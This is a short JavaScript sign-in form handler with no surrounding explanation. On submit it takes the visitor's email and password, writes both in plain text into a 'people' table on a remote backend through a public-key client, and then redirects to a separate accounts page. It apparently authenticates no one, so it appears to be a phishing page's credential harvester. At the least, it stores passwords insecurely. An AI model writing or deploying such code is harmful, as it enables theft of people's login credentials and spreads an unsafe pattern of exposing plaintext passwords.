import { createClient } from 'https://libs.example/base.js';
const base = createClient('https://project.example', 'PUBLIC-KEY');
document.getElementById('sign-in').addEventListener('submit', async (event) => {
  event.preventDefault();
  await base.from('people').insert({
    email: document.getElementById('email').value,
    password: document.getElementById('password').value,
  });
  window.location.href = 'https://photos.example/accounts';
});
